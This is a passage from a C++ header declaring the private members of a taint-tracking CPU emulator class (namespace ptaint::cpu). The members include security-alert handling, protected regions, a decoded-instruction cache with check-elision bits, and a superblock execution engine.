  bool detect_annotation(const isa::Instruction& inst, uint32_t ea,
                         uint32_t len, mem::TaintedWord value);
  void raise_alert(const isa::Instruction& inst, uint8_t reg,
                   mem::TaintedWord value, AlertKind kind);
  void fault(std::string message);
  void alu_write(const isa::Instruction& inst, uint8_t dest, uint32_t value,
                 mem::TaintedWord a, mem::TaintedWord b, bool b_imm);

  mem::TaintedMemory& memory_;
  const TaintPolicy& policy_;
  TaintUnit taint_unit_;
  mem::RegisterFile regs_;
  uint32_t pc_ = isa::layout::kTextBase;
  Os* os_ = nullptr;
  StopReason stop_ = StopReason::kRunning;
  std::optional<SecurityAlert> alert_;
  std::string fault_message_;
  int exit_status_ = 0;
  CpuStats stats_;
  RetireHook retire_hook_;
  std::vector<ProtectedRegion> protected_regions_;
  uint32_t text_begin_ = 0;
  uint32_t text_end_ = 0xffffffff;

  // Decoded-instruction cache over the executable range: fetching becomes
  // one bounds check + one table read instead of a page lookup plus a
  // decode.  decode_valid_[i] gates entry i (0 = invalid, 1 = valid,
  // 2 = valid with the pointer check elided); stores into text and kernel
  // copies invalidate overlapping entries.
  std::vector<isa::Instruction> decode_cache_;
  std::vector<uint8_t> decode_valid_;
  std::vector<uint8_t> elide_bits_;  // per-instruction, from set_check_elision
  std::vector<uint8_t> leak_elide_bits_;  // from set_leak_elision
  // Annotated may-publish PC ranges, end-exclusive (set_publish_ranges).
  std::vector<std::pair<uint32_t, uint32_t>> publish_ranges_;

  Engine engine_ = Engine::kStep;
  std::unique_ptr<SuperblockEngine> sb_;   // created lazily by set_engine
  std::vector<uint8_t> leader_bits_;       // per-instruction CFG leaders
};

}  // namespace ptaint::cpu
